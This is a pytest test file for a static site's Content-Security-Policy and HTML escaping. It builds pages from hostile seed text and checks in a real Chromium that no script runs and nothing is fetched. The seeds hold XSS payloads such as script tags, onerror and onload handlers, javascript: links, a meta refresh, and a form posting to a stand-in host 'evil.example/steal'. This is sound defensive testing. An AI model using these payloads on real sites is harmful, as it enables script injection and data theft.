"""The site's second wall: a Content-Security-Policy on every page, and a real Chromium that
opens every page built from hostile seeds and watches for dialogs, console errors and requests
leaving for addresses taken from a seed."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import chromium, make_project, serve_folder, strict_build
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from duizhao.site.csp import POLICY, policy_for, theme_script_hashes, with_policy

# Hosts a seed names; a request to any of them means content made the browser fetch.
EVIL = "evil.example"
HOSTILE_SEEDS = {
    "scripts.txt": (
        "<!--1700000000000-->\n[脚本<script>alert('title')</script>](https://news.example/a)\n"
        "------\n"
        "<p>第一段<script>alert('script')</script>普京说。</p>"
        f"<script src='https://{EVIL}/x.js'></script>"
        f"<iframe src='https://{EVIL}/frame'></iframe>"
        f"<object data='https://{EVIL}/o.swf'></object><embed src='https://{EVIL}/e'>"
        "<style>body{display:none}</style>"
        "<svg onload=\"alert('svg')\"><circle r=1 /></svg>"
        f"<p><img src='https://{EVIL}/img.png' onerror=\"alert('onerror')\">图片</p>"
        "<p><a href=\"javascript:alert('link')\">坏链接</a>"
        f"<a href='data:text/html,<script>alert(1)</script>'>数据链接</a></p>"
        "<p><img src=\"data:image/svg+xml,<svg onload=alert('data')>\"></p>"
        f"<form action='https://{EVIL}/steal'><input name=q><button>提交</button></form>"
        f"<meta http-equiv='refresh' content='0;url=https://{EVIL}/'>"
        "<p>&lt;script&gt;alert('entity')&lt;/script&gt;应当显示为文字。</p>"
        "<!-- <script>alert('comment')</script> -->"
        "<p><b><i>没有闭合的标签</b></i><div>错误嵌套<p>段落</div></p>"
        f"<p style=\"background:url('https://{EVIL}/bg.png')\">有样式的段落</p>"
        f"<link rel=stylesheet href='https://{EVIL}/s.css'>"
        f"<base href='https://{EVIL}/'>"
    ),
    "markdown.txt": (
        "---\ntitle: 伪造的前言\n---\n"
        "Markdown 标题\n"
        f"<img src=x onerror=alert('md')> 和 [点我](javascript:alert('mdlink')) 以及 "
        f"![图](https://{EVIL}/md.png)\n"
        "{{ config.site_name }} {% include 'x' %} <!-- md:option x -->\n"
        '!!! danger "警告"\n'
        f"<https://{EVIL}/autolink> 和 [正常链接](https://news.example/ok)\n"
        "零宽\u200b字符和\u202e反向\u202c控制，还有 😀 与 𠀀。\n"
    ),
}


def sha256(text: str) -> str:
    return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


# --- the policy -------------------------------------------------------------------------


PAGE = (
    "<html><head><title>t</title><script>theme()</script>"
    '<script id="__config" type="application/json">{"a": 1}</script>'
    '<script src="x.js"></script></head><body>'
    '<article class="md-content__inner md-typeset"><p>text</p><script>content()</script>'
    "</article><script>footer()</script></body></html>"
)


def test_only_the_theme_inline_scripts_outside_the_article_are_hashed() -> None:
    assert theme_script_hashes(PAGE) == [sha256("theme()"), sha256("footer()")]
    policy = policy_for(PAGE)
    assert sha256("content()") not in policy
    # WebAssembly may compile (Pagefind's search), nothing more: no eval, no inline script.
    assert f"script-src 'self' 'wasm-unsafe-eval' 'sha256-{sha256('theme()')}'" in policy
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    for directive in ("default-src 'none'", "object-src 'none'", "frame-src 'none'",
                      "style-src 'self';", "base-uri 'self'"):  # fmt: skip
        assert directive in policy


def test_policy_is_the_first_thing_in_head_and_local_preview_allows_inline() -> None:
    page = with_policy(PAGE)
    assert page.startswith('<html><head><meta http-equiv="Content-Security-Policy" content="')
    assert local_policy_allows_inline()


def local_policy_allows_inline() -> bool:
    policy = policy_for(PAGE, local=True)
    return "'unsafe-inline'" in policy and "sha256-" not in policy


def test_every_built_page_carries_a_policy_matching_its_scripts(built_site: Path) -> None:
    pages = list((built_site / "site").rglob("*.html"))
    assert len(pages) > 30
    for page in pages:
        html = page.read_text(encoding="utf-8")
        found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert found, page
        assert html.index(found.group(0)) < html.index("<script"), page
        for digest in theme_script_hashes(html):
            assert f"'sha256-{digest}'" in found.group(1)
        assert found.group(1).startswith(f"default-src {POLICY['default-src'][0]}")


# --- the hostile site in a real browser -------------------------------------------------


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    seeds = root / "seeds"
    seeds.mkdir()
    for name, text in HOSTILE_SEEDS.items():
        (seeds / name).write_text(text, encoding="utf-8")
    project = make_project(root / "project")
    result = strict_build(project, seeds)
    assert result.returncode == 0, result.stderr[-3000:]
    return project / "site"


@pytest.fixture(scope="module")
def watched_browser(tmp_path_factory: pytest.TempPathFactory):
    """Chromium with its console and network logs on, nothing but loopback resolving."""
    driver = chromium(tmp_path_factory.mktemp("chromium-watched"), logs=True)
    try:
        yield driver
    finally:
        driver.quit()


def requests_made(driver, site: str) -> list[tuple[str, str]]:
    """(URL, resource type) of every request our pages made since the last call (Chromium's
    own pages, such as its error page, are not ours)."""
    made = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        params = message.get("params", {})
        if message["method"] == "Network.requestWillBeSent" and params.get(
            "documentURL", ""
        ).startswith(site):
            made.append((params["request"]["url"], params.get("type", "")))
    return made


def test_no_script_from_a_seed_runs_and_nothing_is_fetched_from_it(
    hostile_site: Path, watched_browser
) -> None:
    pages = sorted(hostile_site.rglob("*.html"))
    articles = [p for p in pages if "/articles/" in p.as_posix()]
    assert len(articles) == 4 * len(HOSTILE_SEEDS)
    with serve_folder(hostile_site) as base:
        watched_browser.get(base + "zh-hans/")
        watched_browser.execute_script("localStorage.clear()")
        for page in pages:
            url = base + page.relative_to(hostile_site).as_posix().removesuffix("index.html")
            watched_browser.get(url)
            # An alert() that ran would leave a dialog open: the next command would fail.
            WebDriverWait(watched_browser, 10).until(
                lambda d: d.execute_script("return document.readyState") == "complete"
            )
            watched_browser.execute_script("window.scrollTo(0, document.body.scrollHeight)")
            assert watched_browser.execute_script("return document.title"), url
            errors = [
                e["message"]
                for e in watched_browser.get_log("browser")
                if e["level"] == "SEVERE" and "ERR_NAME_NOT_RESOLVED" not in e["message"]
            ]
            assert errors == [], url  # CSP violations and script errors are SEVERE
            for request, kind in requests_made(watched_browser, base):
                address = urlsplit(request)
                if address.hostname == "127.0.0.1" or request.startswith("data:image/svg"):
                    continue  # the site itself; Material's icons
                # Only an article's own images leave the site, over http(s).
                assert kind == "Image" and address.scheme in ("http", "https"), (url, request)
        # Text that looked like code is shown as text.
        watched_browser.get(base + "zh-hans/articles/scripts/")
        body = watched_browser.find_element(By.TAG_NAME, "article").text
        assert "<script>alert('entity')</script>应当显示为文字。" in body
        assert "坏链接" in body
        links = watched_browser.find_elements(By.CSS_SELECTOR, "article a[href]")
        assert all(a.get_attribute("href").startswith(("http://", "https://")) for a in links), [
            a.get_attribute("href") for a in links
        ]
        # Material still works under the policy: search finds the hostile article's text.
        watched_browser.execute_script("document.querySelector('.md-search__input').focus()")
        watched_browser.find_element(By.CSS_SELECTOR, ".md-search__input").send_keys("坏链接")
        WebDriverWait(watched_browser, 20).until(
            lambda d: d.find_elements(By.CSS_SELECTOR, ".md-search-result__item")
        )


def test_hostile_text_is_escaped_everywhere_the_theme_prints_it(hostile_site: Path) -> None:
    """Titles, descriptions and authors go into <title>, <meta> attributes and the header,
    which Material's templates print without escaping; none may become markup."""
    checked = 0
    for page in hostile_site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        tags = re.findall(r"<[a-zA-Z][^>]*>", html)
        assert not [t for t in tags if re.search(r"\son\w+\s*=", t)], page  # no on… handlers
        assert "<script>alert" not in html and "javascript:" not in " ".join(tags), page
        if "/articles/scripts/" in page.as_posix():
            title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
            shown = "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;"  # the text, as text
            assert shown in title and "<" not in title, title
            header = re.search(r'data-md-component="header-topic">(.*?)</div>', html, re.S)
            assert shown in header.group(1), header.group(1)
            checked += 1
    assert checked == 4
